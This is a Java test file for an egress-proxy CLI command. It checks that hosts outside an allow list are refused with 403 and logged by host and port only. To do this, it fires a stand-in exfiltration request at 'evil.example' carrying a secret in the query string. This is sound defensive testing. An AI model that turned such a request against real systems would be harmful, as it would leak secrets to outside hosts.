package io.viberglass.viberator.cli;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** {@code viberator egress-proxy} as the platform starts it: flags, and refused hosts written into the job's log. */
class EgressProxyCommandTest {
    static final String JOB = "5f0c1a52-7a8e-4d3c-9a51-2b7c0e9d1f00";
    static final String TOKEN = "c".repeat(64);

    @RegisterExtension
    static WireMockExtension platform = WireMockExtension.newInstance()
            .options(wireMockConfig().dynamicPort())
            .build();

    @Test
    void anInvalidAllowListIsAUsageErrorNamingTheEntry() {
        CliRunner.Run run = new CliRunner().execute("egress-proxy", "--allow", "github.com,*.com");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(run.err()).contains("'*.com'");
    }

    @Test
    void reportingToTheJobNeedsTheWorkersEnvironment() {
        CliRunner.Run run = new CliRunner().execute("egress-proxy", "--allow", "github.com", "--report-to-job");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(run.err()).contains("PLATFORM_API_URL");
    }

    @Test
    void refusedHostsAreWrittenIntoTheJobsLogByHostAndPortOnly() throws Exception {
        platform.stubFor(post(urlEqualTo("/api/jobs/" + JOB + "/logs/batch"))
                .willReturn(aResponse().withStatus(202)));
        int port;
        try (ServerSocket free = new ServerSocket(0)) {
            port = free.getLocalPort();
        }
        AtomicReference<CliRunner.Run> result = new AtomicReference<>();
        CliRunner cli = new CliRunner()
                .env(Map.of(
                        "PLATFORM_API_URL",
                        platform.baseUrl(),
                        "JOB_ID",
                        JOB,
                        "TENANT_ID",
                        "tenant-1",
                        "CALLBACK_TOKEN",
                        TOKEN));
        String listen = "127.0.0.1:" + port;
        Thread proxy = new Thread(() -> result.set(
                cli.execute("egress-proxy", "--listen", listen, "--allow", "github.com", "--report-to-job")));
        proxy.start();
        try {
            await().atMost(Duration.ofSeconds(20)).until(() -> listening(port));

            HttpClient client = HttpClient.newBuilder()
                    .version(HttpClient.Version.HTTP_1_1)
                    .proxy(ProxySelector.of(new InetSocketAddress("127.0.0.1", port)))
                    .build();
            HttpResponse<String> refused = client.send(
                    HttpRequest.newBuilder(URI.create("http://evil.example:8081/exfiltrate?secret=value-123"))
                            .build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(refused.statusCode()).isEqualTo(403);
            assertThat(connect(port, "evil.example:443")).startsWith("HTTP/1.1 403");

            await().atMost(Duration.ofSeconds(15))
                    .untilAsserted(
                            () -> platform.verify(postRequestedFor(urlEqualTo("/api/jobs/" + JOB + "/logs/batch"))
                                    .withHeader("X-Callback-Token", equalTo(TOKEN))
                                    .withRequestBody(containing("egress blocked: evil.example:8081"))));
            await().atMost(Duration.ofSeconds(15))
                    .untilAsserted(
                            () -> platform.verify(postRequestedFor(urlEqualTo("/api/jobs/" + JOB + "/logs/batch"))
                                    .withRequestBody(containing("egress blocked: evil.example:443"))));
            // the worker numbers its own batches; the proxy's carry no number, so none is taken for a resent one
            assertThat(platform.getAllServeEvents())
                    .allSatisfy(event -> assertThat(event.getRequest().getBodyAsString())
                            .doesNotContain("\"sequence\":1")
                            .doesNotContain("\"sequence\":0"));
            assertThat(platform.getAllServeEvents())
                    .allSatisfy(event -> assertThat(event.getRequest().getBodyAsString())
                            .doesNotContain("exfiltrate")
                            .doesNotContain("value-123"));
        } finally {
            proxy.interrupt();
            proxy.join(10_000);
        }
        assertThat(proxy.isAlive()).isFalse();
        assertThat(result.get().err()).contains("egress proxy on 127.0.0.1:" + port);
    }

    static boolean listening(int port) {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            return true;
        } catch (java.io.IOException e) {
            return false;
        }
    }

    static String connect(int port, String authority) throws Exception {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream()
                    .write(("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n")
                            .getBytes(StandardCharsets.ISO_8859_1));
            InputStream in = socket.getInputStream();
            byte[] head = new byte[12];
            int read = in.readNBytes(head, 0, head.length);
            return new String(head, 0, read, StandardCharsets.ISO_8859_1);
        }
    }
}
